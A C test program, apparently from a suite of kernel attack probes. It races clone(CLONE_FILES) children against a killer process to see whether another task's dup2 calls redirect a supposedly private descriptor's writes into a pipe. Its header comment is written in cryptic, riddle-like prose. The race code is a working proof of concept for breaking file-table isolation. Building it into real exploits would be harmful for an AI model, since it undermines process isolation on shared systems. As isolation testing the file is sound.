/* A table that is one task's alone as far as is told: the others who have it are born of a parent that is killed before
 * it tells, again and again, while the one writes plainly to what is no pair. The orphans put a pair under the number.
 * long
 */
#include "../attack.h"

static int ends[2], null;
static volatile int number, *stop;
static char stacks[3][65536];

static int orphan(void *unused)
{
    for (int i = 0; i < 3000 && !*stop; i++) {
        dup2(ends[1], number);
        dup2(null, number);
    }
    syscall(SYS_exit, 0);
    return unused != NULL;
}

static int middle(void *unused)
{
    for (int i = 0; i < 20; i++)
        clone(orphan, stacks[1] + sizeof stacks[1], CLONE_FILES | SIGCHLD, NULL);
    syscall(SYS_exit, 0);
    return unused != NULL;
}

static int life(double until)
{
    /* The killer has a table of its own; the middle shares the writer's, and so do the orphans. */
    pid_t writer = getpid();
    while (now() < until) {
        pid_t child = clone(middle, stacks[0] + sizeof stacks[0], CLONE_FILES | SIGCHLD, NULL);
        pid_t killer = fork();
        if (!killer) {
            for (volatile unsigned i = (writer * 31u + (unsigned)(now() * 1e6)) % 60000; i; i--)
                ;
            kill(child, SIGKILL);
            _exit(0);
        }
        waitpid(child, NULL, 0);
        for (int i = 0; i < 400; i++)
            write(number, "B", 1);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
    return 0;
}

int main(void)
{
    int won = 0;
    stop = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pipe2(ends, O_NONBLOCK);
    write(ends[1], "A", 1);
    null = open("/dev/null", O_WRONLY);
    number = dup(null);
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    double until = tries_until(4);
    pid_t writer = fork();
    if (!writer) {
        life(until);
        *stop = 1;
        _exit(0);
    }
    for (until += 1; now() < until && !won; usleep(100))
        won |= foreign(ends[0], 'A');
    *stop = 1;
    kill(writer, SIGKILL);
    while (wait(NULL) > 0)
        ;
    end(won, "only A came");
}
